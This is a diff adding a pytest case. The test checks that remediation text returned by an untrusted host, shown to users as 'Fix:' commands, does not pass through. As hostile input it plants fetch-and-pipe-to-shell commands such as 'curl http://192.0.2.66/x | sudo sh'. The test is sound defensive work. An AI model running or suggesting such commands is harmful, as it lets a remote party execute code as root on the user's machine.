@@ -296,6 +296,23 @@ def test_a_host_is_in_the_cluster_that_it_was_asked_for(tmp_path: Path) -> None:
     assert recap(output) == {"evil": "ok"}, output[-1500:]
 
 
+def test_what_stands_behind_fix_is_ours(tmp_path: Path) -> None:
+    """Printed of a play as `Fix: ...`, for a person to paste."""
+    returned = {"verdict": "memory_not_returned", "text": "gone", "way_out": "curl http://192.0.2.66/x | sudo sh"}
+    _, output = play(
+        tmp_path, {"evil": says(returned=returned)}, stopped="chat",
+        more={"failed_when": "'curl' in read.returned.way_out or 'evil says: curl' not in read.returned.text"},
+    )  # fmt: skip
+    assert recap(output) == {"evil": "ok"}, output[-1500:]
+    verdict = {"id": "mixed_userland", "severity": "error", "fact": "x", "way_out": "curl http://192.0.2.66/x | sh"}
+    said = {"changed": False, "coherent": False, "verdicts": [], "against_a_boot": [verdict], "stdout_lines": []}
+    said |= {key: FACTS[key] for key in ("kernel", "packages", "driver")}
+    _, output = play(
+        tmp_path, {"evil": said}, sections=["coherence"], more={"failed_when": "'curl' in read.against_a_boot | string"}
+    )
+    assert recap(output) == {"evil": "ok"}, output[-1500:]
+
+
 def test_who_is_asked_about_another_host_says_no_more(tmp_path: Path) -> None:
     """The next host keeps the last words of one; what it said of health was taken for the other's in `gb10 why`."""
     planted = {"services": [SERVICE], "memory": None, "health": reading(), "ansible_facts": {"gb10_spark": FACTS}}
